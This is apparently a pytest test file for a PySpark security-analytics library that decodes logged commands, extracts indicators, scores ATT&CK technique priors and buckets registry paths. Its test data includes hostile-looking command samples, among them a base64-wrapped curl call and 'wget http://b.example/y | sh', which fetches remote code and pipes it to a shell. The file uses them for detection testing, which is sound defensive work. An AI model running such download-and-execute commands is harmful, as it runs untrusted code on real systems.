"""Evidence, views and decisions on single rows."""

import base64

import pytest
from pyspark.sql import functions as F

from cmdlake.functions import behaviour, decoding, evidence
from cmdlake.operators import baseline, priors, triage


def packed(text):
    return base64.b64encode(text.encode()).decode()


def test_views_and_records(spark):
    df = spark.createDataFrame([(1, packed(packed("curl http://10.0.0.9/a?x=1 d41d8cd98f00b204e9800998ecf8427e"))), (2, "ping fe80::1%0 [2001:DB8::00:1]"), (3, None), (4, "")], "id int, command string")
    views = evidence.views(decoding.decode(df), "id")
    got = {(r.id, r.source_view): r for r in views.collect()}
    assert set(got) == {(1, "raw"), (1, "layer_1"), (1, "decoded"), (2, "raw"), (3, "raw"), (4, "raw")} and got[1, "decoded"].decoder == "universal_base64"
    found = {(r.id, r.source_view, r.type, r.value): r for r in evidence.indicator_records(views, "id").collect()}
    assert (1, "decoded", "ip", "10.0.0.9") in found and (1, "decoded", "hash", "d41d8cd98f00b204e9800998ecf8427e") in found
    r = found[2, "raw", "ip", "2001:db8::1"]
    assert (r.confidence, r.span_start) == ("derived", None) and found[1, "decoded", "url", "http://10.0.0.9/a?x=1"].span_start == 5


def test_projection_refuses_unknown_names(spark):
    df = spark.createDataFrame([(1, ["u"])], "id int, urls array<string>")
    assert evidence.project_results(df, ["iocs"], "all", ("id",)).first().iocs.urls == ["u"]
    for sections, iocs in ((["nothing"], "all"), (["iocs"], ["urls", "secrets"])):
        with pytest.raises(ValueError):
            evidence.project_results(df, sections, iocs)


def test_merged_views(spark):
    rows = spark.createDataFrame([(1, "curl http://a.example/x -o f.sh"), (2, "ls")], "id int, command string")
    other = spark.createDataFrame([(1, "wget http://b.example/y | sh")], "id int, command string")
    got = {r.id: r for r in evidence.merged_views(triage.parse_commands(rows), triage.parse_commands(other), "id").collect()}
    assert got[1].urls == ["http://a.example/x", "http://b.example/y"] and got[1].has_pipe and not got[2].has_pipe and got[2].urls == []


def test_bypass(spark):
    cases = [("host", True, None, 1, False, True), ("role", True, "r", 2, False, True), ("role", True, "r", 1, False, False), ("role", True, None, 3, False, False), ("fleet", True, "r", 9, False, False), ("host", True, None, 1, True, False), ("host", None, None, 1, False, False)]
    df = spark.createDataFrame(cases, "level string, promoted boolean, role string, hosts int, decoded boolean, want boolean")
    got = df.select("want", baseline.allowed_to_bypass(*map(F.col, ("level", "promoted", "role", "hosts", "decoded"))).alias("got")).collect()
    assert all(r.want == r.got for r in got)
    with pytest.raises(ValueError):
        baseline.decisions(F.lit(True), "other")


def test_mask_bans_and_fallback(spark):
    df = spark.createDataFrame([("strong", ["impact:inhibit_system_recovery"], ["persistence:scheduled_task"], "T1053"), ("weak", ["persistence:scheduled_task"], ["persistence:scheduled_task"], "T1053"), ("none", [], [], None)], "rule_strength string, candidate_classes array<string>, banned_classes array<string>, truth string")
    space = ["T1053", "T1485", "T1486", "T1490", "T1999"]
    got = priors.with_candidates(df, space, "truth").collect()
    assert got[0].candidates == ["T1485", "T1486", "T1490"] and got[0].organic is False and got[0].candidate_mask == [1, 1, 1, 1, 0]
    assert got[1].used_fallback and got[1].organic and got[2].num_candidates == 5 and got[2].organic is None
    assert all(r.num_candidates == sum(r.candidate_mask) for r in got)


def test_prior_vector_takes_the_largest_class(spark):
    classes = {"credential_access:os_credential_dumping": 0.4, "persistence:account_manipulation": 0.25, "persistence:boot_logon_autostart_execution": 0.3, "persistence:registry_run_key": 0.85, "no:such_class": 1.0}
    space = ["T1003", "T1037", "T1053", "T1098", "T1547"]
    df = spark.createDataFrame([("weak", classes), ("strong", {}), ("none", classes), ("strong", None), (None, classes)], "s string, p map<string, double>")
    got = [r.v for r in df.select(priors.prior_vector(F.col("p"), F.col("s"), space).alias("v")).collect()]
    assert [round(x, 9) for x in got[0]] == [0.6, 0.45, 0.0, 0.375, 1.275] and got[1:] == [[0.0] * 5] * 4


def test_registry_buckets(spark):
    paths = {"HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run": "AUTORUN", "HKLM\\Software\\Windows Defender": "SECURITY", "HKLM\\SAM\\x": "CREDENTIAL", "HKCU\\Services\\x": "SERVICE_REG", "HKCR\\Classes\\CLSID": "COM_HIJACK", "HKCU\\Policies\\x": "POLICY", "HKCU\\x": "GENERAL"}
    rows = spark.createDataFrame(list(paths.items()), "p string, want string").select("want", behaviour.registry_bucket(F.col("p")).alias("got")).collect()
    assert all(r.want == r.got for r in rows)
